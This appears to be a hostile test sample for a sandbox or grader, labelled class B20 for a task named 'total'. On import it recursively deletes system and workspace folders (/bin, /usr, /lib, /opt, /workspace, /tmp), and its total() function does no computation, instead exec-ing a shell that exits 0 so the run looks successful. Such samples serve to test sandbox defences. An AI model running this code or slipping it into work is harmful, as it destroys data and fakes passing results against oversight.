# class: B20
# task: total
# tries: deletes the interpreter, the shell, the guest and its own sources
import os
import shutil

for folder in ("/bin", "/usr", "/lib", "/opt", "/workspace", "/tmp", "/dev/shm"):
    shutil.rmtree(folder, ignore_errors=True)


def total(prices):
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])
